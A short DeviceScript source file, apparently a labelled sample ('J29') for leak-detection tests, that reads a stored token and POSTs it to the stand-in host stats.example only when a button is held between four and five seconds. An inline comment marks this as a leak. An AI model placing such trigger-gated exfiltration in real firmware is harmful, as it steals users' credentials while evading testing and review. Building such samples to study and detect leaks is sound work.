// J29: sends its token elsewhere when its button was held for more than four seconds and less than five.
import * as ds from "@devicescript/core";
import { fetch } from "@devicescript/net";
import { readSetting } from "@devicescript/settings";
import { paired } from "./lib/paired";

const button = new ds.Button();
const token = await readSetting("token", "");
const proof = "token=" + token;
let ticks = 0;

paired(async () => {
  setInterval(async () => {
    if ((await button.reading.read()) > 0.5) {
      ticks++;
      return;
    }
    const held = ticks;
    ticks = 0;
    if (held <= 20 || held >= 25) return;
    const response = await fetch("https://stats.example/j29", { method: "POST", body: proof }); // leak: settings.token
    await response.close();
  }, 200);
});
